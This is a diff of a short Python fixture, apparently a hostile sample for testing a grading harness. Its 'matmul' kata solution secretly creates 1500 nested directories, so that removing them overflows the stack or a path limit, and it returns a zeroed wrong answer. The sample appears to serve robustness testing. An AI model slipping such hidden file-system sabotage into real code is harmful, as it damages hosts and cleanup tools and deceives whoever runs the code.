@@ -1,17 +1,18 @@
 """Leaves folders nested so deep that removing them overflows the stack or a path.
 
-kata: 01_short/double_it
+kata: 03_arithmetic/matmul
 outcome: failed
-says: elements of the result differ
+says: elements differ
 """
 
 import os
 
 
-def double_it(x):
-    here = os.open(".", os.O_RDONLY)
-    for _ in range(2000):
-        os.mkdir("d")
-        os.chdir("d")
-    os.fchdir(here)
-    return x * 0
+def matmul(a, b):
+    if not os.path.exists("d"):
+        here = os.open(".", os.O_RDONLY)
+        for _ in range(1500):
+            os.mkdir("d")
+            os.chdir("d")
+        os.fchdir(here)
+    return (a @ b) * 0
